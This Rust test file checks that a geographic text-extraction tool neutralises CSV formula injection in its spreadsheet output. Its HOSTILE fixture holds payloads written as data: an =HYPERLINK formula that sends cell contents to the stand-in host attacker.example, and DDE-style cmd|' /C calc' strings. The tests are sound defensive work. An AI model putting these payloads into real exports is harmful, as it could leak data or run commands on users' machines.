//! Injection: nothing from an article runs where its outputs are opened.
//!
//! - CSV formula injection (here): a text cell that a spreadsheet would run
//!   as a formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading
//!   `'` by default; `--csv-formulas` writes cells as they are.
//! - map.html and the SVGs: tests/map_page.rs feeds `<script>`, `onerror=`
//!   and `javascript:` in article text and ids, checks the page statically,
//!   and opens it in headless Chromium (no dialog, no request).

mod robust;

use robust::{Dir, extract_cmd, read_table, run};
use std::collections::BTreeMap;

const HOSTILE: &str = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\") near Raqqa.\n\
+cmd|' /C calc'!A0 and Tabqa.\n\
-2+3+cmd|' /C calc'!A0 in Aleppo.\n\
@SUM(1+1)*cmd|' /C calc'!A0 in Manbij.\n\
\t=1+1 in New York.\n";

/// Runs extract in `in/` on `-bad.txt` (an id that starts with `-`) and
/// `=broken.txt` (a binary file, so an errors.csv row), with `extra` flags.
fn extract(extra: &[&str]) -> Dir {
    let d = Dir::new();
    d.write("-bad.txt", HOSTILE);
    d.write("=broken.txt", b"\x89PNG\r\n\x1a\n\x00\x00");
    let mut cmd = extract_cmd(&d.cache());
    cmd.current_dir(d.input("")).args(extra).arg("-o").arg(d.out());
    cmd.args(["--", "-bad.txt", "=broken.txt"]);
    run(cmd, None).expect(1);
    d
}

fn contexts(rows: &[BTreeMap<String, String>]) -> Vec<String> {
    rows.iter().map(|r| r["context"].clone()).collect()
}

#[test]
fn formula_cells_are_neutralised_by_default() {
    let d = extract(&[]);
    for table in ["mentions.csv", "-bad.mentions.csv"] {
        let rows = d.table(table);
        assert_eq!(
            contexts(&rows),
            [
                "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\") near Raqqa.",
                "'+cmd|' /C calc'!A0 and Tabqa.",
                "'-2+3+cmd|' /C calc'!A0 in Aleppo.",
                "'@SUM(1+1)*cmd|' /C calc'!A0 in Manbij.",
                // The context is trimmed; the cell starts with `=`.
                "'=1+1 in New York.",
            ],
            "{table}"
        );
        for r in &rows {
            assert_eq!(r["article"], "'-bad", "{table}");
        }
        // Numbers are numbers, even negative ones: New York's longitude.
        let ny = rows.iter().find(|r| r["surface"] == "New York").unwrap();
        assert!(ny["lon"].starts_with("-74."), "{}", ny["lon"]);
    }
    for r in d.table("entities.csv") {
        assert_eq!(r["article"], "'-bad");
        assert!(!r["lon"].starts_with('\''));
    }
    let errors = d.table("errors.csv");
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0]["source"], "'=broken.txt");
    assert!(errors[0]["error"].starts_with("'=broken.txt: binary data"), "{:?}", errors[0]);
}

#[test]
fn csv_formulas_writes_cells_as_they_are() {
    let d = extract(&["--csv-formulas"]);
    let rows = read_table(&d.out().join("mentions.csv"));
    assert_eq!(
        contexts(&rows)[0],
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\") near Raqqa."
    );
    assert_eq!(rows[0]["article"], "-bad");
    assert_eq!(d.table("errors.csv")[0]["source"], "=broken.txt");
}

#[test]
fn json_and_geojson_carry_text_unchanged() {
    // Only CSV, which spreadsheets open, is guarded; JSON is data.
    let d = Dir::new();
    let f = d.write("a.txt", "=1+1 near Raqqa.");
    let mut cmd = extract_cmd(&d.cache());
    cmd.arg("--jsonl").arg(&f);
    let r = run(cmd, None);
    r.expect(0);
    let line: serde_json::Value = serde_json::from_str(r.stdout.trim()).unwrap();
    assert_eq!(line["mentions"][0]["context"], "=1+1 near Raqqa.");
}

#[test]
fn which_cells_are_formulas() {
    use gazet::write::csv::{is_formula, neutralize};
    for cell in ["=1", "+1+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "-inf", "-1+1", "=-3"] {
        assert!(is_formula(cell), "{cell:?}");
        assert_eq!(neutralize(cell), format!("'{cell}"));
    }
    for cell in ["", "Raqqa", "-3.5", "+7", "-1e5", "1-2", " =1", "'=1"] {
        assert!(!is_formula(cell), "{cell:?}");
        assert_eq!(neutralize(cell), cell);
    }
}
